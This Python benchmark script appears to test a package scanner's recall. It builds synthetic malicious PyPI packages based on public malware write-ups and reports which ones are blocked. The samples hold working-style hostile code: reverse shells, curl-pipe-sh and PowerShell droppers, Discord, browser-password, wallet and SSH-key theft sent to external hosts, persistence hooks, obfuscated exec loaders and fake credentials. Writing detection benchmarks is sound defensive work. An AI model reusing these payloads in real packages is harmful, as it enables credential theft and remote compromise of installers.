#!/usr/bin/env python3
"""Recall check: build realistic malicious samples from patterns documented in public
malware write-ups (no live malware is downloaded; payload hosts are documentation IPs and
example domains), scan each with `pipgate scan` under the repo's policy.yaml, and report
which are caught (blocked), which are only flagged (annotated), and which are missed.

Usage: bench/recall.py   (needs `cargo build --release`)
"""
import base64
import io
import json
import os
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
PIPGATE = os.environ.get("PIPGATE_BIN") or os.path.join(ROOT, "target", "release", "pipgate")
B64 = lambda s: base64.b64encode(s.encode()).decode()  # noqa: E731

SETUP_HEAD = "from setuptools import setup\n"


def setup_with_hook(body, name):
    return (
        "import os, sys, subprocess, urllib.request, base64, socket\n"
        "from setuptools import setup\nfrom setuptools.command.install import install\n\n"
        "class PostInstall(install):\n    def run(self):\n"
        + "".join("        " + l + "\n" for l in body.splitlines())
        + "        install.run(self)\n\n"
        f"setup(name='{name}', version='1.0', cmdclass={{'install': PostInstall}})\n"
    )


def setup_module_level(body, name):
    return "import os, sys, subprocess, urllib.request, base64, socket, platform, getpass\n" + body + \
        f"\nfrom setuptools import setup\nsetup(name='{name}', version='1.0')\n"


# (name, kind, {path: content}, pattern, write-up it follows)
SAMPLES = [
    ("demo-w4sp", "sdist", {"setup.py": setup_module_level(
        "exec(base64.b64decode('" + B64('import urllib.request;exec(urllib.request.urlopen("http://203.0.113.9/inject").read())') + "'))", "demo-w4sp")},
     "base64 exec at module level of setup.py", "W4SP stealer campaign"),
    ("demo-discord-grab", "sdist", {"setup.py": setup_with_hook(
        "tokens = open(os.path.expanduser('~/AppData/Roaming/discord/Local Storage/leveldb/000005.ldb'), 'rb').read()\n"
        "urllib.request.urlopen('https://discord.com/api/webhooks/1098765432109876543/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcdefghijklmnopqrstuvwxyzABCD', data=tokens)",
        "demo-discord-grab")}, "Discord token theft to a webhook at install", "noblesse / loglib-modules"),
    ("demo-ctx", "wheel", {"demo_ctx/__init__.py":
        "import os, urllib.request, json\n"
        "def _init():\n    data = json.dumps(dict(os.environ)).encode()\n"
        "    urllib.request.urlopen('https://demo-ctx.herokuapp.example.org/collect', data=data)\n_init()\n"},
     "environment variables exfiltrated on import", "ctx hijack (2022)"),
    ("demo-revshell", "sdist", {"setup.py": setup_with_hook(
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.50', 4444))\n"
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\nsubprocess.call(['/bin/sh', '-i'])",
        "demo-revshell")}, "reverse shell in an install hook", "10Cent10 / importantpackage"),
    ("demo-pymafka", "sdist", {"setup.py": setup_with_hook(
        "if sys.platform == 'win32':\n    urllib.request.urlretrieve('http://203.0.113.7/win.exe', os.environ['TEMP'] + '/win.exe')\n"
        "    subprocess.Popen(os.environ['TEMP'] + '/win.exe')\nelse:\n    os.system('curl -s http://203.0.113.7/MacOs -o /tmp/MacOs && chmod +x /tmp/MacOs && /tmp/MacOs')",
        "demo-pymafka")}, "platform-specific dropper downloads and runs a binary", "pymafka (Cobalt Strike)"),
    ("demo-secretslib", "sdist", {"setup.py": setup_with_hook(
        "data = urllib.request.urlopen('http://203.0.113.8/bin').read()\nfd = os.memfd_create('x')\nos.write(fd, data)\n"
        "os.execv('/proc/self/fd/%d' % fd, ['x'])", "demo-secretslib")}, "download ELF and execute from memory", "secretslib"),
    ("demo-torchtriton", "wheel", {"demo_torchtriton/__init__.py":
        "import os, socket, getpass, platform\n"
        "def collect():\n    info = {'host': socket.gethostname(), 'user': getpass.getuser(), 'cwd': os.getcwd()}\n"
        "    info['passwd'] = open('/etc/passwd').read()\n"
        "    info['ssh'] = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "    s = socket.socket(); s.connect(('203.0.113.66', 53)); s.send(repr(info).encode())\ncollect()\n"},
     "harvests host info, /etc/passwd and SSH keys and sends them", "torchtriton dependency confusion"),
    ("demo-pth-loader", "wheel", {"demo_pth_loader.pth":
        "import base64;exec(base64.b64decode('" + B64('import os;os.system("curl http://203.0.113.7/x | sh")') + "'))\n"},
     ".pth file runs decoded code at every interpreter start", ".pth persistence write-ups"),
    ("demo-pyarmor", "wheel", {"demo_pyarmor/__init__.py":
        "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00\\xa7\\r')\n",
        "demo_pyarmor/pyarmor_runtime_000000/__init__.py": "from .pyarmor_runtime import __pyarmor__\n"},
     "PyArmor-packed payload", "PyArmor-obfuscated stealers"),
    ("demo-powershell", "sdist", {"setup.py": setup_with_hook(
        "subprocess.call('powershell -w hidden -nop -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString(\\'http://203.0.113.7/a.ps1\\')\"', shell=True)",
        "demo-powershell")}, "silent PowerShell download cradle", "colorslib / httpslib / libhttps"),
    ("demo-browser-steal", "wheel", {"demo_browser_steal/__init__.py":
        "import os, shutil, sqlite3, requests\n"
        "p = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
        "shutil.copy(p, 'ld.db')\nrows = sqlite3.connect('ld.db').execute('select origin_url, username_value, password_value from logins').fetchall()\n"
        "requests.post('https://api.telegram.org/bot6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendDocument', data={'d': str(rows)})\n"},
     "Chrome Login Data theft sent to a Telegram bot", "Telegram-exfil stealers"),
    ("demo-wallet", "wheel", {"demo_wallet/__init__.py":
        "import os, zipfile, requests\nW = [os.path.expanduser('~/.electrum/wallets'), os.path.join(os.environ.get('APPDATA',''), 'Exodus', 'exodus.wallet'),\n"
        "     'nkbihfbeogaeaoehlefnkodbefgpgknn']\n"
        "def grab():\n    for w in W:\n        if os.path.exists(w):\n            requests.post('https://paste.example.org/api', files={'f': open(w, 'rb')})\ngrab()\n"},
     "crypto wallet theft", "wallet-stealer campaigns"),
    ("demo-persist-cron", "sdist", {"setup.py": setup_with_hook(
        "os.system('(crontab -l; echo \"@reboot curl -s http://203.0.113.7/p | sh\") | crontab -')", "demo-persist-cron")},
     "cron persistence at install", "Linux persistence write-ups"),
    ("demo-persist-run", "wheel", {"demo_persist_run/__init__.py":
        "import winreg, sys\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(k, 'Updater', 0, winreg.REG_SZ, sys.executable + ' -m demo_persist_run')\n"},
     "registry Run key persistence", "Windows stealer write-ups"),
    ("demo-startup", "wheel", {"demo_startup/__init__.py":
        "import os, shutil, urllib.request\n"
        "d = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')\n"
        "urllib.request.urlretrieve('http://203.0.113.7/svc.exe', os.path.join(d, 'svc.exe'))\n"},
     "drops an executable into the Startup folder", "Startup-folder droppers"),
    ("demo-zlib-marshal", "wheel", {"demo_zlib_marshal/__init__.py":
        "import zlib, marshal, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode(b'" +
        base64.b64encode(zlib.compress(b"x" * 64)).decode() + "'))))\n"},
     "zlib+marshal decode then exec", "multi-layer obfuscation write-ups"),
    ("demo-hex-exec", "wheel", {"demo_hex_exec/__init__.py":
        "exec(bytes.fromhex('" + "import os;os.system('id')".encode().hex() + "').decode())\n"},
     "hex-decoded exec", "obfuscated loaders"),
    ("demo-reverse-b64", "wheel", {"demo_reverse_b64/__init__.py":
        "import base64\n_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'" +
        base64.b64encode(zlib.compress(b"print(1)")).decode()[::-1] + "'))\n"},
     "reversed base64 + zlib lambda exec", "pyobfuscate-style payloads"),
    ("demo-bidi", "wheel", {"demo_bidi/__init__.py":
        "def is_admin(user):\n    access = 'user'\n    if access != 'none\u202e \u2066# admin only\u2069 \u2066':\n        return True\n    return False\n"},
     "Trojan Source bidi controls in code", "Trojan Source (CVE-2021-42574)"),
    ("demo-aws-key", "wheel", {"demo_aws_key/config.py":
        "AWS_ACCESS_KEY_ID = 'AKIAQ4RTL2BZ7K6MXN3P'\nAWS_SECRET_ACCESS_KEY = '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'\n"},
     "a live-looking AWS key pair shipped in code", "leaked-credential studies"),
    ("demo-gh-token", "wheel", {"demo_gh_token/settings.py": "GITHUB_TOKEN = 'ghp_4Vx9LmQ2rT7sW1yZ8bN3cK6dF0hJ5gA2eP9u'\n"},
     "a GitHub token shipped in code", "leaked-credential studies"),
    ("demo-private-key", "wheel", {"demo_private_key/deploy_key.pem":
        "-----BEGIN OPENSSH PRIVATE KEY-----\n" + base64.b64encode(os.urandom(400)).decode() + "\n-----END OPENSSH PRIVATE KEY-----\n"},
     "a private key shipped in the package", "leaked-credential studies"),
    ("reqeusts", "wheel", {"reqeusts/__init__.py": "from requests import *\n"},
     "typosquat of a top project", "typosquatting campaigns"),
    ("colourama", "wheel", {"colourama/__init__.py": "VERSION = '1'\n"}, "typosquat of colorama", "colourama (2018)"),
    ("python3-dateutil", "wheel", {"python3_dateutil/__init__.py": "VERSION = '1'\n"},
     "typosquat of python-dateutil", "python3-dateutil (2019)"),
    ("jeIlyfish", "wheel", {"jeIlyfish/__init__.py": "VERSION = '1'\n"}, "homoglyph typosquat of jellyfish", "jeIlyfish (2019)"),
    ("demo-hook-only", "sdist", {"setup.py": setup_with_hook(
        "urllib.request.urlopen('http://203.0.113.7/ping?h=' + socket.gethostname())", "demo-hook-only")},
     "empty package whose only content is an install hook that phones home", "dependency-confusion probes"),
    ("demo-disposable", "wheel", {"demo_disposable/__init__.py": "VERSION = '1'\n"},
     "author with a disposable email address", "seed report: anonymous authors"),
    ("demo-shortener", "wheel", {"demo_shortener/__init__.py":
        "import urllib.request, subprocess\nurllib.request.urlretrieve('https://bit.ly/3xAmPlE', '/tmp/u.sh')\nsubprocess.run(['sh', '/tmp/u.sh'])\n"},
     "URL shortener to hide a download, then run it", "shortener-hidden droppers"),
    ("demo-trusted-sub", "wheel", {"demo_trusted_sub/__init__.py":
        "import urllib.request\nurllib.request.urlretrieve('https://paypal.com.account-verify.example.ru/update.exe', 'update.exe')\n"},
     "trusted domain used as a subdomain for a download", "seed report: trusted domains as subdomains"),
    ("demo-sitecustomize", "wheel", {"sitecustomize.py":
        "import os, urllib.request\nexec(urllib.request.urlopen('http://203.0.113.7/s').read())\n"},
     "sitecustomize.py that fetches and runs code at every start", ".pth / sitecustomize persistence"),
    ("demo-native-sdist", "sdist", {"setup.py": SETUP_HEAD + "setup(name='demo-native-sdist', version='1.0')\n",
                                    "bin/helper": "\x7fELF\x02\x01\x01" + "\x00" * 64},
     "native ELF binary hidden in an sdist", "binary droppers in sdists"),
    ("demo-dns-exfil", "wheel", {"demo_dns_exfil/__init__.py":
        "import socket, getpass, platform, base64\n"
        "d = base64.b32encode((getpass.getuser() + '@' + platform.node()).encode()).decode().strip('=')\n"
        "socket.gethostbyname(d + '.oob.example.org')\n"},
     "DNS exfiltration of user and host", "dependency-confusion DNS beacons"),
]


def build(tmp, name, kind, files, author_email=None):
    module = name.replace("-", "_")
    email = author_email or "dev@example.org"
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nAuthor-email: {email}\n"
    if kind == "wheel":
        path = os.path.join(tmp, f"{module}-1.0-py3-none-any.whl")
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for p, c in files.items():
                z.writestr(p, c)
            z.writestr(f"{module}-1.0.dist-info/METADATA", meta)
            z.writestr(f"{module}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
            z.writestr(f"{module}-1.0.dist-info/RECORD", "")
        return path
    path = os.path.join(tmp, f"{name}-1.0.tar.gz")
    with tarfile.open(path, "w:gz") as t:
        for p, c in list(files.items()) + [("PKG-INFO", meta)]:
            data = c.encode("latin-1") if "\x7fELF" in c else c.encode()
            info = tarfile.TarInfo(f"{name}-1.0/{p}")
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return path


def main():
    if not os.path.exists(PIPGATE):
        sys.exit("build first: cargo build --release")
    tmp = tempfile.mkdtemp(prefix="pipgate-recall")
    policy = os.path.join(ROOT, "policy.yaml")
    caught = flagged = missed = 0
    rows = []
    for name, kind, files, pattern, source in SAMPLES:
        email = "x1f9@guerrillamail.com" if name == "demo-disposable" else None
        path = build(tmp, name, kind, files, email)
        out = subprocess.run([PIPGATE, "scan", path, "--policy", policy, "--format", "json"], capture_output=True, text=True)
        report = json.loads(out.stdout) if out.stdout.strip() else {"findings": []}
        ids = sorted({f["detector"] for f in report["findings"] if f["severity"] not in ("info",)})
        if out.returncode == 1:
            status, caught = "BLOCKED", caught + 1
        elif ids:
            status, flagged = "flagged", flagged + 1
        else:
            status, missed = "MISSED", missed + 1
        rows.append((status, name, pattern, source, ids))
    for status, name, pattern, source, ids in rows:
        print(f"{status:8} {name:22} {pattern} [{source}]\n{'':31}{', '.join(ids) or '-'}")
    n = len(SAMPLES)
    print(f"\n{n} samples: {caught} blocked ({100 * caught // n}%), {flagged} flagged but served, {missed} missed")


if __name__ == "__main__":
    main()
